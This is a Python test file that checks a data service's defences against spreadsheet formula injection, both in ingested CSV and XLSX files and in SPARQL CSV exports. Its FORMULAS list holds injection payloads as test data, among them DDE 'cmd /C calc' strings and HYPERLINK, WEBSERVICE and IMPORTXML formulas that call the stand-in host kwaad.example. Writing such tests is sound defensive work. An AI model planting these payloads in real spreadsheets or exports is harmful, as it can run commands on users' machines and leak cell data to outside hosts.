"""Formulas in cells: what comes in stays text, and what goes to a spreadsheet is not calculated. All fictitious."""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from ingest.document import Document
from ingest.formats.tables.csv import read_csv
from ingest.formats.tables.workbook import read_xlsx
from kg.projections.flat import guarded
from tests.rest_service import LESSON, client, fill

ROOT = Path(__file__).parents[2]
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://kwaad.example?x="&A1,"klik")', "+1+1", "-1+1", "@SUM(1+1)",
    '=WEBSERVICE("https://kwaad.example")', '=IMPORTXML("https://kwaad.example","//a")', "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "  +1+1", '=DDE("cmd";"/C calc";"x")', "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\ufeff=1+1", "\u200b=1+1", '"=1+1', "'=1+1", "|calc", "%0A=1+1",
    '="a"', "=A1,=B1", "=1\n=2", "-2+3+cmd|' /C calc'!A0", "\x0b=1+1",
]  # fmt: skip
PLAIN = [
    "Meet vooraf",
    "3",
    "-3",
    "+31",
    "-3.5",
    "1e-5",
    "a=b",
    "a-b",
    "e-mail@voorbeeld.example",
    "",
    "2026-01-01",
    "'s-Hertogenbosch",
]
QUERY = "SELECT ?title WHERE { ?les a kring:Lesson ; dcterms:title ?title }"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def test_the_corpus_is_as_large_as_reported() -> None:
    assert len(set(FORMULAS)) == 32
    assert len(set(PLAIN)) == 12


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_gets_a_quote_before_it(formula: str) -> None:
    assert guarded(formula) == f"'{formula}"


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert guarded(text) == text


@pytest.fixture(scope="module")
def answers(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The titles of lessons that are formulas, as each form of the SPARQL door gives them."""
    store = tmp_path_factory.mktemp("formulas") / "store"
    kept = [text for text in FORMULAS if text == text.strip() and "\n" not in text and not text.startswith("\ufeff")]
    rows = [("Lesson", {**LESSON, "id": f"les-{number}", "title": text}) for number, text in enumerate(kept)]
    fill(store, {"kring/public": rows})
    found = {}
    with client(store) as service:
        for name, form, more in (
            ("csv", "text/csv", {}),
            ("plain", "text/csv", {"spreadsheet": "true"}),
            ("json", "application/sparql-results+json", {"spreadsheet": "true"}),
        ):
            answer = service.get("/sparql", params={"query": QUERY, **more}, headers={"Accept": form})
            assert answer.status_code == 200, answer.text
            found[name] = answer.content.decode("utf-8")
    return {**found, "count": str(len(kept))}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row][1:]


def test_sparql_csv_gives_values_as_the_standard_has_it(answers: dict[str, str]) -> None:
    cells = _cells(answers["csv"])
    assert len(cells) == int(answers["count"])
    assert "=1+1" in cells


def test_sparql_csv_for_a_spreadsheet_has_no_formula_and_loses_nothing(answers: dict[str, str]) -> None:
    cells = _cells(answers["plain"])
    assert not [cell for cell in cells if cell.startswith(DANGEROUS)]
    assert sorted(cell.removeprefix("'") for cell in cells if cell != "''=1+1") == sorted(
        cell for cell in _cells(answers["csv"]) if cell != "'=1+1"
    )


def test_only_csv_is_changed_for_a_spreadsheet(answers: dict[str, str]) -> None:
    assert '"=1+1"' in answers["json"]


def test_a_csv_with_formulas_is_read_as_text() -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["title"])
    safe = [text for text in FORMULAS if text.isprintable()]
    writer.writerows([text] for text in safe)
    rows = list(read_csv(Document(Path("a.csv"), "a.csv", out.getvalue().encode())))
    assert [row.data["title"].strip() for row in rows] == [text.strip() for text in safe]  # type: ignore[union-attr]


def test_an_xlsx_gives_the_outcome_that_stands_in_it_and_calculates_nothing() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["title", "formula"])  # type: ignore[union-attr]
    sheet.append(["tekst", "=1+1"])  # type: ignore[union-attr]  # openpyxl writes it as a formula without an outcome
    out = io.BytesIO()
    book.save(out)
    said, row = read_xlsx(Document(Path("a.xlsx"), "a.xlsx", out.getvalue()))
    assert "1 formule heeft geen bewaarde uitkomst" in str(said)
    assert row.data == {"title": "tekst", "formula": None}  # type: ignore[union-attr]


def test_no_other_door_writes_tables() -> None:
    """Who adds one decides here what its cells are."""
    found = {
        path.relative_to(ROOT).as_posix()
        for package in ("api", "kg", "ingest")
        for path in (ROOT / package).rglob("*.py")
        if re.search(r"csv\.(w|DictW)riter\(|Workbook\(|\.to_(csv|excel)\(", path.read_text(encoding="utf-8"))
    }
    assert found == {"api/render/spreadsheet.py"}
